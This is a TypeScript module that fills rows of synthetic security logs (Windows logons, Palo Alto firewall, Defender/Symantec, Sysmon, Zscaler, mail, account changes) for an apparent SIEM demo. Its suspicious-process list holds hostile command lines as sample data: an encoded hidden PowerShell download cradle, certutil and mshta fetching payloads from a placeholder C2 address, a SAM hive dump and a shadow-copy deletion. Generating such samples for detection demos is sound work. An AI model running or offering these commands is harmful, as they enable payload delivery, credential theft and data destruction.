/**
 * Realistic event shapes for the demo grid: Windows logons, firewall traffic, EDR detections, Sysmon
 * process starts, web proxy, mail and account changes. Each fills a row whose raw `Message` agrees with
 * its fields, and draws hosts, people, IPs and hashes from the datasets so enrichment plugins get hits.
 * `bad` asks for the hostile variant (used for every alarm's first event, and for a share of logs).
 */
import type { Asset, DirectoryUser, ThreatIp } from './dataset-types.ts';
import {
  ADMINS,
  BAD_FILES,
  CLEAN_FILES,
  DMZ_SERVERS,
  DOMAIN_CONTROLLERS,
  ENDPOINTS,
  PEOPLE,
  PUBLIC_IPS,
  threatsIn,
  usersByLogin,
  VPN_GATEWAY,
} from './datasets.ts';
import type { EventFields } from './log-row.ts';
import type { Random } from './prng.ts';

export type ScenarioName =
  | 'logon-failure'
  | 'logon-success'
  | 'vpn-logon'
  | 'firewall-outbound'
  | 'firewall-inbound'
  | 'malware'
  | 'process'
  | 'web'
  | 'mail'
  | 'account-change';

type Fill = (r: Random, e: EventFields, stamp: string, bad: boolean) => void;

const C2 = threatsIn('c2', 'botnet', 'malware-host');
const SCANNERS = threatsIn('scanner', 'tor-exit', 'bruteforce');
const TOR = threatsIn('tor-exit');
const PHISH = threatsIn('phishing', 'malware-host');
const INTERNET_HOSTS = PUBLIC_IPS.filter((p) => p.service === '');
const WELL_KNOWN_SERVICES = PUBLIC_IPS.filter((p) => p.service !== '');
const FAKE_LOGINS = ['administrator', 'admin', 'test', 'guest', 'scanner', 'backup', 'root', 'user1'];

const ip = (a: Asset): string => a.ips[0] ?? '';
/** Log Source Entity: branch offices are their own entities, everything else is the primary site. */
const entityOf = (a: Asset): string => (a.location.endsWith(' Office') ? a.location : 'Primary Site');
const ownerOf = (r: Random, a: Asset): DirectoryUser => usersByLogin.get(a.owner) ?? r.pick(PEOPLE);
/** Analyzer shows logins in whatever form the source wrote them. */
const loginAs = (r: Random, u: DirectoryUser, forms: ('sam' | 'netbios' | 'upn')[]): string => {
  const form = r.pick(forms);
  return form === 'netbios' ? `CORP\\${u.login}` : form === 'upn' ? u.upn : u.login;
};
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
/** `Nov 27 11:59:51`, sliced from the ISO stamp: no Date object per row. */
const syslogTime = (stamp: string): string =>
  `${MONTHS[Number(stamp.slice(5, 7)) - 1]} ${stamp.slice(8, 10).replace(/^0/, ' ')} ${stamp.slice(11, 19)}`;
const paTime = (stamp: string): string =>
  `${stamp.slice(0, 4)}/${stamp.slice(5, 7)}/${stamp.slice(8, 10)} ${stamp.slice(11, 19)}`;
const pick = <T>(r: Random, pool: readonly T[]): T => r.pick(pool);

const windowsLogon =
  (ok: boolean): Fill =>
  (r, e, stamp, bad) => {
    const host = pick(r, ENDPOINTS);
    e.Entity = entityOf(host);
    const dc = pick(r, DOMAIN_CONTROLLERS);
    const unknown = !ok && (bad || r.chance(0.15));
    const user = ownerOf(r, host);
    const account = unknown ? r.pick(FAKE_LOGINS) : user.login;
    const logonType = ok
      ? r.weighted([
          [3, 6],
          [2, 2],
          [10, 1],
        ] as const)
      : 3;
    e.LogSource = `WinEvtLog Security - ${dc.hostname}`;
    e.MessageClass = ok ? 'Authentication Success' : 'Authentication Failure';
    e.CommonEvent = ok
      ? 'User Logon'
      : unknown
        ? 'User Logon Failure : Unknown User'
        : 'User Logon Failure : Bad Password';
    e.SHostName = host.hostname;
    e.SIP = ip(host);
    e.DHostName = dc.fqdn;
    e.DIP = ip(dc);
    e.Login = unknown ? account : loginAs(r, user, ['sam', 'netbios', 'upn']);
    e.Account = account;
    e.Domain = 'CORP';
    e.Process = ok ? 'C:\\Windows\\System32\\lsass.exe' : 'NtLmSsp';
    e.Priority = ok ? r.int(3, 15) : bad ? r.int(55, 75) : r.int(20, 45);
    e.SPort = r.int(49152, 65535);
    e.Message =
      `${stamp} ${dc.fqdn} EVID=${ok ? 4624 : 4625} Microsoft-Windows-Security-Auditing: ` +
      `${ok ? 'An account was successfully logged on.' : 'An account failed to log on.'} ` +
      `Logon Type: ${logonType} Account Name: ${account} Account Domain: CORP ` +
      (ok
        ? ''
        : `Failure Reason: ${unknown ? 'Unknown user name' : 'Bad password'} Status: ${unknown ? '0xC0000064' : '0xC000006A'} `) +
      `Workstation Name: ${host.hostname} Source Network Address: ${e.SIP} Source Port: ${e.SPort}`;
  };

const vpnLogon: Fill = (r, e, stamp, bad) => {
  const user = pick(r, PEOPLE);
  const from: ThreatIp | undefined = bad ? pick(r, r.chance(0.5) ? TOR : SCANNERS) : undefined;
  const ok = bad ? r.chance(0.35) : r.chance(0.85);
  e.LogSource = `Palo Alto GlobalProtect - ${VPN_GATEWAY.hostname}`;
  e.MessageClass = ok
    ? from
      ? 'Compromise'
      : 'Authentication Success'
    : from
      ? 'Attack'
      : 'Authentication Failure';
  e.CommonEvent = ok
    ? from
      ? 'Successful Logon From Known Bad IP'
      : 'VPN Logon'
    : from
      ? 'Brute Force Logon Attempt'
      : 'VPN Logon Failure';
  e.SIP = from ? from.ip : pick(r, INTERNET_HOSTS).ip;
  e.DHostName = VPN_GATEWAY.fqdn;
  e.DIP = ip(VPN_GATEWAY);
  e.Login = user.upn;
  e.Account = user.login;
  e.Direction = 'Inbound';
  e.SPort = r.int(1024, 65535);
  e.DPort = 443;
  e.Protocol = 'TCP';
  e.Priority = from ? (ok ? r.int(85, 98) : r.int(50, 70)) : ok ? r.int(5, 20) : r.int(25, 40);
  e.Message =
    `<14>${syslogTime(stamp)} ${VPN_GATEWAY.hostname} 1,${paTime(stamp)},013201009876,GLOBALPROTECT,0,2816,` +
    `${paTime(stamp)},vsys1,gateway-auth,${ok ? 'login' : 'login-failed'},,${user.upn},${e.SIP},${e.DIP},` +
    `${ok ? 'success' : 'Authentication failed: Invalid username or password'}`;
};

const PORTS_OUT: [number, string, string][] = [
  [443, 'TCP', 'ssl'],
  [80, 'TCP', 'web-browsing'],
  [53, 'UDP', 'dns'],
  [123, 'UDP', 'ntp'],
];
const PORTS_C2: [number, string, string][] = [
  [443, 'TCP', 'ssl'],
  [8443, 'TCP', 'unknown-tcp'],
  [4444, 'TCP', 'unknown-tcp'],
  [80, 'TCP', 'web-browsing'],
];
const PORTS_SCAN: [number, string][] = [
  [22, 'ssh'],
  [23, 'telnet'],
  [3389, 'ms-rdp'],
  [445, 'ms-ds-smb'],
  [1433, 'mssql-db'],
  [5900, 'vnc'],
];

const firewallOutbound: Fill = (r, e, stamp, bad) => {
  const host = pick(r, ENDPOINTS);
  e.Entity = entityOf(host);
  const user = ownerOf(r, host);
  const threat = bad ? pick(r, C2) : undefined;
  const [port, proto, app] = threat ? pick(r, PORTS_C2) : pick(r, PORTS_OUT);
  e.LogSource = 'Palo Alto Firewall - PA-5220-EDGE01';
  e.MessageClass = threat
    ? threat.category === 'c2' && threat.confidence >= 85
      ? 'Compromise'
      : 'Suspicious'
    : 'Network Allow';
  e.CommonEvent = threat ? 'Outbound Connection To Known Bad IP' : 'Network Connection Allowed';
  e.SHostName = host.hostname;
  e.SIP = ip(host);
  e.DIP = threat ? threat.ip : pick(r, PUBLIC_IPS).ip;
  e.Login = loginAs(r, user, ['netbios']);
  e.Direction = 'Outbound';
  e.SPort = r.int(49152, 65535);
  e.DPort = port;
  e.Protocol = proto;
  e.Priority = threat ? r.int(70, 95) : r.int(2, 12);
  e.Message =
    `<14>${syslogTime(stamp)} PA-5220-EDGE01 1,${paTime(stamp)},013201001234,TRAFFIC,end,2816,${paTime(stamp)},` +
    `${e.SIP},${e.DIP},0.0.0.0,0.0.0.0,${threat ? 'Default-Outbound' : 'Allow-Web-Outbound'},corp\\${user.login},,${app},vsys1,` +
    `trust,untrust,ethernet1/2,ethernet1/1,Forward-SIEM,${paTime(stamp)},${r.int(10000, 999999)},1,${e.SPort},${port},0,0,0x400019,` +
    `${proto.toLowerCase()},allow,${r.int(400, 90000)}`;
};

const firewallInbound: Fill = (r, e, stamp, bad) => {
  const target = pick(r, DMZ_SERVERS);
  const threat = bad || r.chance(0.4) ? pick(r, SCANNERS) : undefined;
  const [port, app] = pick(r, PORTS_SCAN);
  const scan = threat !== undefined && (bad || r.chance(0.5));
  e.LogSource = 'Palo Alto Firewall - PA-5220-EDGE01';
  e.MessageClass = scan ? 'Reconnaissance' : 'Network Deny';
  e.CommonEvent = scan ? 'Port Scan Detected' : 'Network Connection Denied';
  e.SIP = threat ? threat.ip : pick(r, INTERNET_HOSTS).ip;
  e.DHostName = target.fqdn;
  e.DIP = ip(target);
  e.Direction = 'Inbound';
  e.SPort = r.int(1024, 65535);
  e.DPort = port;
  e.Protocol = 'TCP';
  e.Priority = scan ? r.int(45, 70) : r.int(10, 30);
  e.Message =
    `<12>${syslogTime(stamp)} PA-5220-EDGE01 1,${paTime(stamp)},013201001234,${scan ? 'THREAT,scan' : 'TRAFFIC,deny'},2049,` +
    `${paTime(stamp)},${e.SIP},${e.DIP},0.0.0.0,0.0.0.0,Deny-Inbound-Default,,,${app},vsys1,untrust,dmz,ethernet1/1,,` +
    `Forward-SIEM,${paTime(stamp)},0,1,${e.SPort},${port},0,0,0x0,tcp,${scan ? 'drop' : 'deny'}`;
};

const malware: Fill = (r, e, stamp, bad) => {
  const host = pick(r, ENDPOINTS);
  e.Entity = entityOf(host);
  const user = ownerOf(r, host);
  const file = pick(r, bad ? BAD_FILES.filter((f) => f.verdict === 'malicious') : BAD_FILES);
  const cleaned = !bad && r.chance(0.7);
  const folder = r.pick(['Downloads', 'AppData\\Local\\Temp', 'Desktop', 'AppData\\Roaming\\Microsoft']);
  const defender = r.chance(0.6);
  e.LogSource = defender
    ? `Microsoft Defender for Endpoint - ${host.hostname}`
    : 'Symantec Endpoint Protection - SEPM01';
  e.MessageClass = file.verdict === 'malicious' ? 'Malware' : 'Suspicious';
  e.CommonEvent =
    file.verdict === 'malicious'
      ? cleaned
        ? 'Malware Quarantined'
        : 'Malware Detected Not Cleaned'
      : 'Hack Tool Detected';
  e.SHostName = host.hostname;
  e.SIP = ip(host);
  e.Login = loginAs(r, user, ['netbios', 'sam']);
  e.Account = user.login;
  e.Object = `C:\\Users\\${user.login}\\${folder}\\${file.file_name}`;
  e.Process = r.pick([
    'C:\\Windows\\explorer.exe',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
  ]);
  e.Hash = r.pick([file.sha256, file.sha256, file.sha1, file.md5]);
  e.Direction = 'Local';
  e.Priority = file.verdict === 'malicious' ? (cleaned ? r.int(60, 75) : r.int(85, 99)) : r.int(50, 70);
  e.Message = defender
    ? `${stamp} ${host.fqdn} MsSense: ThreatName=${file.family || 'Unknown'} Severity=High Action=${cleaned ? 'Quarantine' : 'None'} ` +
      `FilePath=${e.Object} SHA256=${file.sha256} SHA1=${file.sha1} MD5=${file.md5} InitiatingProcess=${e.Process} User=CORP\\${user.login}`
    : `${stamp} SEPM01 SymantecServer: Virus found,Computer name: ${host.hostname},Source: Auto-Protect scan,Risk name: ${file.family},` +
      `File path: ${e.Object},Requested action: Quarantine,Actual action: ${cleaned ? 'Quarantined' : 'Left alone'},` +
      `User: ${user.login},Hash: ${e.Hash},IP Address: ${e.SIP}`;
};

const BENIGN_PROCESSES = [
  '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
  '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /dde',
  'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
  '"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --system-initiated',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ExecutionPolicy Bypass -File \\\\fs01\\scripts\\logon.ps1',
  '"C:\\Program Files\\7-Zip\\7z.exe" x Q3-report.zip',
  'C:\\Windows\\System32\\cmd.exe /c ipconfig /all',
];
const SUSPICIOUS_PROCESSES = [
  'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  'C:\\Windows\\System32\\rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\init.dll,DllRegisterServer',
  'C:\\Windows\\System32\\certutil.exe -urlcache -split -f http://{ip}/a.txt C:\\Users\\Public\\a.exe',
  'C:\\Windows\\System32\\reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv',
  'C:\\Windows\\System32\\vssadmin.exe delete shadows /all /quiet',
  'C:\\Windows\\System32\\mshta.exe http://{ip}/invoice.hta',
];

const processStart: Fill = (r, e, stamp, bad) => {
  const host = pick(r, ENDPOINTS);
  e.Entity = entityOf(host);
  const user = ownerOf(r, host);
  const suspicious = bad || r.chance(0.06);
  const command = r
    .pick(suspicious ? SUSPICIOUS_PROCESSES : BENIGN_PROCESSES)
    .replace('{user}', user.login)
    .replace('{ip}', pick(r, C2).ip);
  const file = suspicious && r.chance(0.6) ? pick(r, BAD_FILES) : pick(r, CLEAN_FILES);
  e.LogSource = `WinEvtLog Sysmon - ${host.hostname}`;
  e.MessageClass = suspicious ? 'Suspicious' : 'Other Audit';
  e.CommonEvent = suspicious
    ? command.includes('powershell')
      ? 'Suspicious PowerShell Command'
      : 'Suspicious Process Started'
    : 'Process Started';
  e.SHostName = host.hostname;
  e.SIP = ip(host);
  e.Login = loginAs(r, user, ['netbios']);
  e.Process = command;
  e.Hash = file.sha256;
  e.Direction = 'Local';
  e.Priority = suspicious ? r.int(60, 85) : r.int(1, 10);
  e.Message =
    `${stamp} ${host.fqdn} EVID=1 Microsoft-Windows-Sysmon: Process Create: UtcTime: ${stamp.slice(0, 19).replace('T', ' ')} ` +
    `ProcessId: ${r.int(400, 30000)} CommandLine: ${command} User: CORP\\${user.login} ` +
    `Hashes: MD5=${file.md5.toUpperCase()},SHA256=${file.sha256.toUpperCase()} ParentImage: C:\\Windows\\explorer.exe`;
};

const SITES = [
  'www.google.com',
  'outlook.office365.com',
  'github.com',
  'slack.com',
  'zoom.us',
  'www.linkedin.com',
  'login.microsoftonline.com',
  'docs.python.org',
  'www.salesforce.com',
  'stackoverflow.com',
  'news.ycombinator.com',
];
const BAD_SITES = [
  'login-micros0ft365.example.net',
  'docusign-review.example.org',
  'payroll-update.example.com',
  'cdn-updates.example.net',
  'invoice-portal.example.org',
];
const PATHS = [
  '/',
  '/search?q=quarterly+forecast',
  '/mail/inbox',
  '/api/v2/messages',
  '/wiki/Onboarding',
  '/download/latest',
];

const web: Fill = (r, e, stamp, bad) => {
  const host = pick(r, ENDPOINTS);
  e.Entity = entityOf(host);
  const user = ownerOf(r, host);
  const blocked = bad || r.chance(0.05);
  const site = blocked ? r.pick(BAD_SITES) : r.pick(SITES);
  const dest = blocked ? pick(r, PHISH).ip : pick(r, WELL_KNOWN_SERVICES).ip;
  e.LogSource = 'Zscaler NSS - Web Proxy';
  e.MessageClass = blocked ? 'Suspicious' : 'Network Allow';
  e.CommonEvent = blocked ? 'URL Blocked By Policy' : 'HTTP Request';
  e.SHostName = host.hostname;
  e.SIP = ip(host);
  e.DIP = dest;
  e.DHostName = site;
  e.Domain = site;
  e.URL = `https://${site}${blocked ? r.pick(['/auth/login.php', '/view/doc?id=88412', '/update.exe']) : r.pick(PATHS)}`;
  e.Login = user.upn;
  e.Direction = 'Outbound';
  e.SPort = r.int(49152, 65535);
  e.DPort = 443;
  e.Protocol = 'TCP';
  e.Priority = blocked ? r.int(55, 80) : r.int(1, 8);
  e.Message =
    `${stamp} zscaler-nss: reason=${blocked ? 'Blocked' : 'Allowed'} event_id=${r.int(1e9, 9e9)} protocol=HTTPS ` +
    `action=${blocked ? 'Blocked' : 'Allowed'} transactionsize=${r.int(500, 90000)} login=${user.upn} ` +
    `urlcategory=${blocked ? 'Phishing' : 'Business and Economy'} url=${e.URL} cip=${e.SIP} sip=${dest}`;
};

const SUBJECTS = [
  'Q4 budget review',
  'Re: Team offsite agenda',
  'Updated onboarding checklist',
  'Weekly status report',
  'Invoice 88213 from Northwind Traders',
  'Your Zoom meeting has been scheduled',
];
const PHISH_SUBJECTS = [
  'Action required: password expires today',
  'Overdue invoice #INV-20931',
  'DocuSign: Please review and sign',
  'Payroll update - confirm your bank details',
  'Voicemail received (00:43)',
];

const mail: Fill = (r, e, stamp, bad) => {
  const to = pick(r, PEOPLE);
  const phish = bad || r.chance(0.08);
  const attachment = phish && r.chance(0.6) ? pick(r, BAD_FILES) : undefined;
  e.LogSource = phish ? 'Proofpoint TAP - Mail Gateway' : 'Office 365 Message Tracking';
  e.MessageClass = phish ? 'Suspicious' : 'Other Operations';
  e.CommonEvent = phish ? 'Phishing Email Detected' : 'Email Message Delivered';
  e.Sender = phish
    ? r.pick([
        'billing@invoices-northwind.example.net',
        'no-reply@docusign-secure.example.org',
        'it-support@corp-example.example.com',
      ])
    : r.chance(0.5)
      ? pick(r, PEOPLE).email
      : r.pick(['orders@northwind.example.com', 'no-reply@zoom.example.com']);
  e.Recipient = to.email;
  e.Account = to.login;
  e.Subject = r.pick(phish ? PHISH_SUBJECTS : SUBJECTS);
  e.SIP = phish ? pick(r, PHISH).ip : pick(r, PUBLIC_IPS).ip;
  e.DHostName = 'mail-relay01.dmz.corp.example.com';
  e.DIP = '172.16.10.25';
  e.Domain = e.Sender.split('@')[1] ?? '';
  e.Object = attachment?.file_name ?? '';
  e.Hash = attachment?.sha256 ?? '';
  e.Direction = 'Inbound';
  e.DPort = 25;
  e.Protocol = 'TCP';
  e.Priority = phish ? r.int(50, 80) : r.int(1, 5);
  e.Message =
    `${stamp} ${phish ? 'proofpoint-tap' : 'o365-messagetrace'}: sender=${e.Sender} recipient=${e.Recipient} ` +
    `subject="${e.Subject}" clientIp=${e.SIP} disposition=${phish ? 'delivered;threat=phish' : 'delivered'}` +
    (attachment ? ` attachment=${attachment.file_name} sha256=${attachment.sha256}` : '');
};

const accountChange: Fill = (r, e, stamp, bad) => {
  const admin = pick(r, ADMINS);
  const target = pick(r, PEOPLE);
  const dc = pick(r, DOMAIN_CONTROLLERS);
  const kind = bad
    ? 'privileged'
    : r.weighted([
        ['lockout', 5],
        ['created', 2],
        ['privileged', 1],
        ['reset', 3],
      ] as const);
  const evid = { lockout: 4740, created: 4720, privileged: 4728, reset: 4724 }[kind];
  e.LogSource = `WinEvtLog Security - ${dc.hostname}`;
  e.MessageClass =
    kind === 'lockout'
      ? 'Authentication Failure'
      : kind === 'created'
        ? 'Account Created'
        : 'Account Modified';
  e.CommonEvent = {
    lockout: 'User Account Locked Out',
    created: 'User Account Created',
    privileged: 'User Added To Privileged Group',
    reset: 'User Password Reset',
  }[kind];
  e.DHostName = dc.fqdn;
  e.DIP = ip(dc);
  e.Login = kind === 'lockout' ? '' : `CORP\\${admin.login}`;
  e.Account = target.login;
  e.Object = kind === 'privileged' ? 'CN=Domain Admins,CN=Users,DC=corp,DC=example,DC=com' : '';
  e.Domain = 'CORP';
  e.Priority = kind === 'privileged' ? r.int(70, 90) : r.int(15, 40);
  e.Message =
    `${stamp} ${dc.fqdn} EVID=${evid} Microsoft-Windows-Security-Auditing: ${e.CommonEvent}. ` +
    `Subject Account Name: ${kind === 'lockout' ? `${dc.hostname}$` : admin.login} Target Account Name: ${target.login} ` +
    `Target Domain: CORP${e.Object ? ` Group: ${e.Object}` : ''}`;
};

export const SCENARIOS: Record<ScenarioName, { weight: number; fill: Fill }> = {
  'logon-failure': { weight: 12, fill: windowsLogon(false) },
  'logon-success': { weight: 14, fill: windowsLogon(true) },
  'vpn-logon': { weight: 5, fill: vpnLogon },
  'firewall-outbound': { weight: 18, fill: firewallOutbound },
  'firewall-inbound': { weight: 10, fill: firewallInbound },
  malware: { weight: 3, fill: malware },
  process: { weight: 14, fill: processStart },
  web: { weight: 14, fill: web },
  mail: { weight: 6, fill: mail },
  'account-change': { weight: 4, fill: accountChange },
};
